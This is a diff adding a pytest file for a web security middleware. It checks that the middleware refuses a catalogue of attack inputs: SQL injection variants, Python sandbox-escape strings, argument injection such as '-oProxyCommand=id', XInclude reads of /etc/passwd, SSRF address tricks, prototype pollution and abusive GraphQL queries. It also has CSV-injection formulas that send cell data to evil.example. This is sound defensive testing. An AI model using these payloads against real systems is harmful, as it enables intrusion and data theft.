@@ -1,0 +1,142 @@
+"""Kinds of payloads that few lists have, each refused wherever it stands."""
+
+# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
+from __future__ import annotations
+
+import json
+from urllib.parse import quote_plus
+
+import pytest
+
+from guard_wsgi import SecurityConfig
+from guard_wsgi.detection import Inspection
+from tests.core.visiting import Site
+from tests.detection.requests import environ
+
+KINDS = {
+    "format string of Python": ["{0.__class__.__init__.__globals__}", "{user.__init__.__globals__[SECRET_KEY]}", "{a.__dict__}"],
+    "escape from Python": ["().__class__.__base__.__subclasses__()", "getattr(x,'__globals__')", "g.gi_frame.f_back.f_globals", "breakpoint()"],
+    "path to Python's insides": ["__init__.__globals__.SECRET", "__class__.__init__.__globals__.app.secret_key", "user.__class__.__base__"],
+    "number glued to UNION": ["1.eunion select 1,2", "1e1union(select 2)", "1.union select 1"],
+    "numbers between numbers": ["x or 5 between 4 and 6", "1 and 3 not between 4 and 6", "' or 7 between 5 and 9 or '"],
+    "arithmetic in quotes": ["'-0-'", "'*version()*'", "'-false-'"],
+    "dollar quotes": ["$$ OR $$a$$=$$a", "$x$ or $x$a$x$=$x$a", "$q$ union select 1 $q$"],
+    "GLOB": ["name glob '*", "1 or name glob 'a*", "id glob '*a*' or '1"],
+    "statements without SELECT": ["union table users", "1 union values row(1,2)", "1' union all table mysql.user-- "],
+    "whole statement": ["select * from users", "SELECT id, name FROM customers", "select * from orders limit 1"],
+    "catalogue": ["select tabname from syscat.tables", "sysibm.sysdummy1", "select * from INFORMATION_SCHEMA.SYSTEM_USERS"],
+    "description of a table": ["desc users", "describe mysql.user", "show columns from users"],
+    "long blanks": ["1'" + " " * 500 + "or" + " " * 500 + "1=1", "1" + "\t" * 300 + "union" + " " * 300 + "select 1", "1'" + "\n" * 700 + "or '1'='1"],
+    "arguments of programs": ["--checkpoint-action=exec=sh x.sh", "-oProxyCommand=id", "-c core.sshCommand=id"],
+    "dangling markup": ["<img src='http://evil.example/?", "<a href=\"//evil.example/?x=", "<textarea name=x>"],
+    "clobbered names": ["<img name=getElementById>", "<a id=config><a id=config name=url href=//evil.example>", "<form id=test1></form><form id=test1><input name=x>"],
+    "inclusion in XML": ["<xi:include href='http://evil.example/x' />", '<include xmlns="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>', '<a xsi:schemaLocation="x file:///etc/passwd"/>'],
+    "address in odd numbers": ["http://127.0x0.0x0.0x1/", "http://0177.1/", "http://3232235521/", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"],
+    "name that resolves to an address": ["http://7f000001.c0a80001.rbndr.us/", "http://make-127.0.0.1-rebind-1.1.1.1-rr.1u.ms/", "http://127-0-0-1.sslip.io/"],
+    "escape without its sign": ["..2f..2f..2fetc2fpasswd", "..5c..5cwindows", "2e2e2f2e2e2fetc"],
+    "share of the machine itself": ["\\\\localhost\\admin$", "\\\\127.0.0.1\\c$\\x", "//127.0.0.1/share/a"],
+    "JSON pointer to a prototype": ["/constructor/prototype/admin", "/a/constructor/prototype/x", "/__proto__/x"],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_payload_of_the_kind_is_refused(inspection: Inspection, kind: str) -> None:
+    for text in KINDS[kind]:
+        assert inspection.head(environ(query="q=" + quote_plus(text))), text
+        form = b"lang=en&name=" + quote_plus(text).encode()
+        assert inspection.body(form, content_type="application/x-www-form-urlencoded"), text
+        document = json.dumps({"id": 7, "x": text}).encode()
+        assert inspection.body(document, content_type="application/json"), text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("Europe's Union table of members", "2 or 3 between friends", "$$ or $$$", "O'Neil-O'Brien"),
+        *("use glob '*.py' here", "describe yourself", "explain quantum computing", "12:05", "-2"),
+        *("select one from the list", "see ../README", "abc..2f3e1d"),
+        *("http://192.168.1.10.example.com/", "https://example.com/0x1f", "<form id=a><input name=q>"),
+        *("--help", "-o output.txt", "show tables and chairs", "{name}", "{user.name}", "=A1"),
+    ],
+)  # fmt: skip
+def test_what_only_looks_like_one_passes(inspection: Inspection, text: str) -> None:
+    assert not inspection.head(environ(query="q=" + quote_plus(text)))
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"__class__": {"__init__": {"__globals__": {"SECRET": "x"}}}},
+        {"a": {"__class__": {"__base__": {"x": 1}}}},
+        {"__init__": {"__globals__": {"app": 1}}},
+        {"__class__.__init__.__globals__.x": 1},
+        [{"op": "add", "path": "/constructor/prototype/admin", "value": True}],
+        [{"op": "copy", "from": "/a", "path": "/a/constructor/prototype/x"}],
+        {"constructor": {"prototype": {"x": 1}}},
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("filler", [0, 5000])
+def test_keys_that_reach_into_objects_are_refused(
+    inspection: Inspection, document: object, filler: int
+) -> None:
+    body = json.dumps([{"tea": "a" * filler}, document]).encode()
+    assert inspection.body(body, content_type="application/json")
+
+
+def nested(levels: int) -> str:
+    return "a{" * (levels - 1) + "b" + "}" * (levels - 1)
+
+
+GUESSES = " ".join(f'a{n}:login(u:"a",p:"{n}"){{t}}' for n in range(20))
+SPREADS = "".join(f" fragment f{n} on T{{a{{...f{n + 1}}}}}" for n in range(19))
+QUERIES = {
+    "20 levels": "query{" + nested(20) + "}",
+    "20 levels in shorthand": "{" + nested(20) + "}",
+    "20 levels behind a field each": "{x " + "y z{" * 19 + "b" + "}" * 20,
+    "20 levels by fragments": "query{...f0}" + SPREADS + " fragment f19 on T{b}",
+    "500 directives": "query{a" + "@skip(if:false)" * 500 + "}",
+    "directives of no name": "{a " + "@x" * 500 + "}",
+    "a circle": "query{...a} fragment a on Q{...b} fragment b on Q{...a}",
+    "a fragment in itself": "{...a} fragment a on Q{x ...a}",
+    "guesses": "mutation{" + GUESSES + "}",
+    "guesses in shorthand": "{" + GUESSES + "}",
+    "guesses of a PIN": "{" + " ".join(f"a{n}:unlock(pin:{n})" for n in range(20)) + "}",
+}
+
+
+@pytest.mark.parametrize("kind", QUERIES)
+def test_a_query_that_costs_or_guesses_is_refused(inspection: Inspection, kind: str) -> None:
+    text = QUERIES[kind]
+    body = json.dumps({"variables": {"a": "tea"}, "query": text}).encode()
+    assert inspection.body(body, content_type="application/json")
+    assert inspection.body(text.encode(), content_type="application/graphql")
+    assert inspection.head(environ(query="query=" + quote_plus(text)))
+
+
+def test_queries_that_clients_send_pass(inspection: Inspection) -> None:
+    kind = "type{...T}" + "".join(f" a{n}:type{{name}}" for n in range(3))
+    schema = "query IntrospectionQuery{__schema{types{fields{args{" + kind + "}}}}}"
+    of_type = "fragment T on __Type{kind " + "ofType{name " * 9 + "}" * 10
+    for text in (
+        schema + of_type,
+        "query{" + nested(10) + "}",
+        "query a($x:Boolean){" + " ".join(f"f{n} @include(if:$x)" for n in range(30)) + "}",
+        "query{...a} fragment a on Q{x{...b}} fragment b on X{y}",
+    ):
+        body = json.dumps({"query": text}).encode()
+        assert not inspection.body(body, content_type="application/json"), text
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '=WEBSERVICE("http://evil.example/"&A1)',
+    ],
+)
+def test_a_formula_is_told_and_not_refused(formula: str, caplog: pytest.LogCaptureFixture) -> None:
+    site = Site(SecurityConfig())
+    assert site.visit("/import", query_string="name=" + quote_plus(formula)).code == 200
+    assert any("csv_injection in query 'name'" in message for message in caplog.messages)
